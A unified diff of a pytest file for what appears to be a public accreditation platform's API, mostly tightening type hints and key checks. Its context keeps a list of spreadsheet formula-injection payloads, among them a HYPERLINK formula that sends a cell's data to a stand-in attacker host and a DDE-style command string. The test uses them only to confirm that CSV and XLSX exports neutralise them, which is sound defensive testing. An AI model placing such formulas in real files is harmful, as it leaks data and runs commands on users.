@@ -15,7 +15,7 @@ from urllib.parse import quote
 
 import httpx
 import pytest
-from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
 from openpyxl import load_workbook
 from zhongshi_contracts.dossier import Dossier
 from zhongshi_contracts.review import Decision
@@ -272,7 +272,9 @@ async def test_the_qr_payload_verifies_offline_with_the_published_key(client: Cl
     keys = (await client.http.get("/api/v1/public/certificates-key")).json()["keys"]
     document = json.loads(payload)
     [key] = [k for k in keys if k["key_id"] == document["key_id"]]
-    load_pem_public_key(key["public_key_pem"].encode()).verify(signature, payload)  # type: ignore[union-attr]
+    public_key = load_pem_public_key(key["public_key_pem"].encode())
+    assert isinstance(public_key, Ed25519PublicKey)
+    public_key.verify(signature, payload)
     assert document["status"] == "valid" and document["certificate_no"] == "鄂中试〔2026〕002号"
 
 
@@ -302,7 +304,9 @@ async def test_a_garbled_qr_payload_is_refused_naming_the_parameter(client: Clie
     assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["query", "c"]
 
 
-async def test_the_public_api_never_returns_objectors_or_contacts(client: Client, make_dossier) -> None:  # type: ignore[no-untyped-def]
+async def test_the_public_api_never_returns_objectors_or_contacts(
+    client: Client, make_dossier: Callable[..., Dossier]
+) -> None:
     await open_and_object(client)
     publicity = (await client.http.get("/api/v1/public/publicity/R1")).text
     assert "objections" in publicity and "has_grounds" in publicity
@@ -323,7 +327,9 @@ async def test_the_public_api_never_returns_objectors_or_contacts(client: Client
         assert not [s for s in secrets if s in text]
 
 
-async def test_the_public_list_filters_and_pages_and_stats_count_progress(client: Client, make_dossier) -> None:  # type: ignore[no-untyped-def]
+async def test_the_public_list_filters_and_pages_and_stats_count_progress(
+    client: Client, make_dossier: Callable[..., Dossier]
+) -> None:
     await client.province("POST", "/api/v1/rounds/R1/publicity", json={})
     await close(client)
     everything = (await client.http.get("/api/v1/public/platforms", params={"limit": 2})).json()
@@ -417,7 +423,9 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /
             "\t=1+1", "\r=1+1"]
 
 
-async def test_exports_neutralise_formulas_in_applicant_text(client: Client, make_dossier) -> None:  # type: ignore[no-untyped-def]
+async def test_exports_neutralise_formulas_in_applicant_text(
+    client: Client, make_dossier: Callable[..., Dossier]
+) -> None:
     for i, text in enumerate(FORMULAS):
         record = decision_of(make_dossier(), f"F{i}", Decision.ACCREDIT, 10 + i)
         await client.repo.decisions.put(f"F{i}", record.model_copy(update={"platform_name": text,
@@ -425,13 +433,13 @@ async def test_exports_neutralise_formulas_in_applicant_text(client: Client, mak
     csv_rows = list(csv.reader(io.StringIO((await client.province(
         "GET", "/api/v1/exports/rounds/R1/results.csv")).content.decode("utf-8-sig"))))
     book = load_workbook(io.BytesIO((await client.province("GET", "/api/v1/exports/rounds/R1/results.xlsx")).content))
-    xlsx_rows = [[c.value for c in row] for row in book.active.iter_rows()]  # type: ignore[union-attr]
+    xlsx_rows = [[c.value for c in row] for row in book.active.iter_rows()]
     for rows in (csv_rows, xlsx_rows):
         names = [row[1].replace("\r", "\n") for row in rows if row[0].startswith("F")]  # XML reads CR as LF
         assert names == ["'" + t.replace("\r", "\n") for t in FORMULAS]  # kept, inert: shown, never run
         assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
                    if cell is not None)
-    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)  # type: ignore[union-attr]
+    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
 
 
 @pytest.mark.parametrize("round_id", ["R[1]", "R:1", "R*?\\1", "第一批", 'R"1'])
